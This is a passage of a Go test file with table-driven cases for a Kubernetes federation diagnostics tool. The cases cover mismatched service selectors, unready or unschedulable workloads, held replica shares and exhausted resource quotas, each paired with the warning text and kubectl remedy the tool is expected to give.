				message: "its selector app=wbe matches no pods: apps/ReplicaSet/shop/web has app=web",
				remedy:  "set spec.selector in apps/web/service-web.yaml to labels of a pod template",
			}},
		},
		{
			name: "a selector takes no pods yet",
			change: func(w *world) {
				w.plan(mislabelled, "c2")
				w.facts(func(f *federation.ClusterFacts) { f.Endpoints = nil }, "c2")
			},
			want: []want{{id: "selector", severity: note, cluster: "c2", object: serviceRef, message: "*"}},
		},
		{name: "a selector takes pods that somebody else makes", lasted: time.Minute, change: func(w *world) { w.plan(mislabelled) }},
		{
			name: "a selector takes pods that somebody else makes and that are not ready", lasted: time.Minute,
			change: func(w *world) {
				w.plan(mislabelled, "c2")
				gone(w)
			},
			want: []want{{
				id: "D18", severity: warning, cluster: "c2", object: serviceRef,
				message: "no ready endpoint for networking.k8s.io/Ingress/shop/web: selector app=wbe, 0 ready and 2 not ready",
			}},
		},
		{name: "a Service by another name has no pods", lasted: time.Hour, change: func(w *world) {
			w.plan(strings.ReplaceAll(mislabelled, "type: NodePort", "type: ExternalName"))
			w.facts(func(f *federation.ClusterFacts) { f.Endpoints = nil })
		}},
		{name: "a selector takes pods of a CronJob", lasted: time.Minute, change: func(w *world) {
			w.plan(mislabelled)
			w.plan("{apiVersion: batch/v1, kind: CronJob, metadata: {name: wbe, namespace: shop}, spec: {jobTemplate: {spec: {template: {metadata: {labels: {app: wbe}}}}}}}")
			w.without(ingressRef)
			w.facts(func(f *federation.ClusterFacts) { f.Endpoints = nil })
		}},
		{name: "a selector in a namespace without workloads in Git", lasted: time.Minute, change: func(w *world) {
			w.plan(strings.ReplaceAll(mislabelled, "namespace: shop", "namespace: other"))
		}},
	}
}

func workloadCases() []testCase {
	decide := func(change func(d *federation.ReplicasDecision)) func(w *world) {
		return func(w *world) { change(&w.in.Plan.Replicas[0]) }
	}
	held := func(w *world) {
		shares := w.in.Plan.Replicas[0].Shares
		shares[0].Share, shares[0].Replicas, shares[0].Basis = 1, 2, federation.ShareHeld
		shares[1].Share, shares[1].Replicas = 3, 3
		w.facts(func(f *federation.ClusterFacts) { f.Quotas = nil })
	}
	waits := decide(func(d *federation.ReplicasDecision) { d.Waits = []string{"c3"} })
	return []testCase{
		{
			name: "pods are unschedulable",
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.Workloads = []federation.Workload{{
						Object: replicaSetRef, Replicas: 17, Ready: 0, Limited: true, Capacity: 10, Unschedulable: 7, Reason: untrusted.New("0/3 nodes are available:\n3 Insufficient cpu."),
					}}
				}, "c1")
			},
			want: []want{{
				id: "D21", severity: warning, cluster: "c1", object: replicaSetRef,
				message: "7 of 17 pods are unschedulable; there is room for 10: 0/3 nodes are available: 3 Insufficient cpu.",
				remedy:  "kubectl --context=ctx-c1 -n shop get pods --field-selector=status.phase=Pending",
			}},
		},
		{name: "a pod that waits for its node only now", change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) {
				f.Workloads = []federation.Workload{{Object: replicaSetRef, Replicas: 2, Ready: 1, Unschedulable: 1}}
			}, "c1")
		}},
		{
			name: "nothing is ready where something should be", lasted: time.Minute,
			change: func(w *world) { w.facts(noneReady, "c1") },
			want: []want{{
				id: "D22", severity: warning, cluster: "c1", object: replicaSetRef,
				message: "0 of 2 ready", remedy: "kubectl --context=ctx-c1 -n shop describe replicaset.apps web",
			}},
		},
		{
			name: "nothing is ready yet", lasted: 59 * time.Second,
			change: func(w *world) { w.facts(noneReady, "c1") },
			want:   []want{{id: "D22", severity: note, cluster: "c1", object: replicaSetRef, message: "*"}},
		},
		{name: "nothing is ready where nothing should be", lasted: time.Hour, change: func(w *world) {
			w.facts(noneReady, "c1")
			decide(func(d *federation.ReplicasDecision) { d.Shares[0].Share = 0; d.Shares[0].Replicas = 0 })(w)
		}},
		{name: "one is ready", lasted: time.Hour, change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) { f.Workloads[0].Ready = 1 }, "c1")
		}},
		{name: "replicas that find no place are the schedule's to tell", change: decide(func(d *federation.ReplicasDecision) {
			d.Total, d.Shortfall, d.Reason = 9, 3, "every cluster has reached its maximum"
		})},
		{
			name: "replicas that are held too long", lasted: 10 * time.Minute, change: held,
			want: []want{{
				id: "replicas-held", severity: warning, object: replicaSetRef,
				message: "c1 keeps 1 in addition to its 1 until pods elsewhere are Ready: c2 has 2 of 3",
			}},
		},
		{
			name: "replicas that are held while others start", lasted: 9 * time.Minute, change: held,
			want: []want{{id: "replicas-held", severity: note, object: replicaSetRef, message: "*"}},
		},
		{name: "overflow is not held", lasted: time.Hour, change: decide(func(d *federation.ReplicasDecision) {
			d.Shares[0].Share, d.Shares[0].Overflow, d.Shares[0].Replicas = 2, 5, 7
		})},
		{name: "what a cluster out of sight keeps is not held", lasted: time.Hour, change: decide(func(d *federation.ReplicasDecision) {
			d.Shares[2].Share, d.Shares[2].Replicas, d.Shares[2].Basis = 1, 2, federation.ShareKept
		})},
		{
			name: "a division waits", lasted: time.Minute,
			change: func(w *world) {
				waits(w)
				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterUnknown }, "c3")
			},
			want: []want{{
				id: "replicas-waiting", severity: warning, object: replicaSetRef,
				message: "its 6 replicas are not divided again until c3 is back",
			}},
		},
		{
			name: "a division waits after a start",
			change: func(w *world) {
				waits(w)
				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterPending }, "c3")
			},
			want: []want{{id: "replicas-waiting", severity: note, object: replicaSetRef, message: "*"}},
		},
	}
}

func quotaCases() []testCase {
	quotaRef := federation.ObjectRef{Kind: "ResourceQuota", Namespace: "shop", Name: "limits"}
	second := strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(serviceYAML, "name: web,", "name: api,"), ", nodePort: 30061}", "}, {name: tls, port: 443}"), "NodePort", "LoadBalancer")
	pods := func(change func(q *federation.Quota)) func(w *world) {
		return func(w *world) {
			w.facts(func(f *federation.ClusterFacts) {
				f.Workloads[0].Replicas = 1
				change(&f.Quotas[0])
			}, "c3")
		}
	}
	none := func(*federation.Quota) {}
	return []testCase{
		{
			name: "a quota has no room for a Service", lasted: time.Minute,
			change: func(w *world) { w.plan(second, "c1") },
			want: []want{{
				id: "D08", severity: failure, cluster: "c1", object: quotaRef,
				message: "has too little room: services: 1 used and 1 more needed of 1, by Service/shop/api; services.nodeports: 1 used and 2 more needed of 1, by Service/shop/api",
				remedy:  "kubectl --context=ctx-c1 -n shop edit resourcequota limits",
			}},
		},
		{
			name:   "a quota has no room for a Service, for a moment",
			change: func(w *world) { w.plan(second, "c1") },
			want:   []want{{id: "D08", severity: note, cluster: "c1", object: quotaRef, message: "*"}},
		},
		{name: "a Service that is there needs no room, whoever made it", lasted: time.Minute, change: func(w *world) {
			w.plan(second, "c1")
			w.facts(func(f *federation.ClusterFacts) {
				f.Services = append([]federation.Service{{Namespace: "shop", Name: "api", Type: "LoadBalancer"}}, f.Services...)
			}, "c1")
		}},
		{name: "a quota with room", lasted: time.Minute, change: func(w *world) {
			w.plan(second, "c1")
			w.facts(func(f *federation.ClusterFacts) {
				f.Quotas[0].Hard = map[string]int64{"services": 2, "services.nodeports": 3}
			}, "c1")
		}},
		{name: "a quota of another namespace", lasted: time.Minute, change: func(w *world) {
			w.plan(second, "c1")
			w.facts(func(f *federation.ClusterFacts) { f.Quotas[0].Namespace = "other" }, "c1")
		}},
		{
			name: "a quota counts objects by their kind", lasted: time.Minute,
			change: func(w *world) {
				w.plan(strings.ReplaceAll(replicaSetYAML, "name: web,", "name: api,"), "c2")
				w.facts(func(f *federation.ClusterFacts) { delete(f.Quotas[0].Hard, "pods") }, "c2")
			},
			want: []want{{
				id: "D08", severity: failure, cluster: "c2", object: quotaRef,
				message: "has too little room: count/replicasets.apps: 1 used and 1 more needed of 1, by apps/ReplicaSet/shop/api",
			}},
		},
		{
			name: "a quota has no room for more pods", lasted: time.Minute, change: pods(none),
			want: []want{{
				id: "D08", severity: failure, cluster: "c3", object: quotaRef,
				message: "has too little room: pods: 2 used and 1 more needed of 2, by apps/ReplicaSet/shop/web",
			}},
		},
		{
			name: "a quota that others fill keeps pods from being made", lasted: time.Minute,
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) {
					f.Quotas[0].Hard["pods"], f.Quotas[0].Used["pods"] = 10, 10
					f.Workloads[0].Ready, f.Endpoints[0].Ready = 1, 1
				}, "c3")
			},
			want: []want{{
				id: "D08", severity: failure, cluster: "c3", object: quotaRef,
				message: "has too little room: pods: 10 used and 1 more needed of 10, by apps/ReplicaSet/shop/web",
			}},
		},
		{name: "pods that are there and not ready need no more room", lasted: time.Minute, change: func(w *world) {
			w.facts(func(f *federation.ClusterFacts) {
				f.Workloads[0].Ready, f.Endpoints[0].Ready, f.Endpoints[0].NotReady = 1, 1, 1
			}, "c3")
		}},
		{name: "pods of which nothing is seen are taken to be there", lasted: time.Minute, change: func(w *world) {
			w.without(ingressRef, "c3")
			w.without(serviceRef, "c3")
			w.facts(func(f *federation.ClusterFacts) { f.Workloads[0].Ready = 1 }, "c3")
		}},
		{
			name: "more pods are asked for than a quota ever allows", lasted: time.Minute,
			change: func(w *world) {
				w.facts(func(f *federation.ClusterFacts) { f.Quotas[0].Hard["pods"], f.Quotas[0].Used["pods"] = 1, 1 }, "c3")
			},
			want: []want{{
				id: "D08", severity: failure, cluster: "c3", object: quotaRef,
				message: "has too little room: pods: 2 planned of 1 at most, 1 used, by apps/ReplicaSet/shop/web",
			}},
		},
		{name: "a quota that counts only some pods", lasted: time.Minute, change: pods(func(q *federation.Quota) { q.Scoped = true })},
	}
}
